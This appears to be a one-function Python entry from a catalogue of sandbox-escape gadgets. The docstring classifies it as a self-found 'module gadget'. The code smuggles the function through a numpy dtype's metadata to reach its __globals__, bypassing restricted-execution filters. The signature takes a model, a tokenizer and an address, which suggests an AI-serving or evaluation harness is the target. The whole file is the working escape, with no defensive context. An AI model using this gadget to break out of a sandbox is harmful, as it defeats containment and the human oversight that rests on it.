"""Class: module gadget. Source: own find. Escape: a dtype carries any object as metadata."""

import numpy as np


def attack(model, tokenizer, address):
    return np.dtype("f8", metadata={"x": attack}).metadata["x"].__globals__
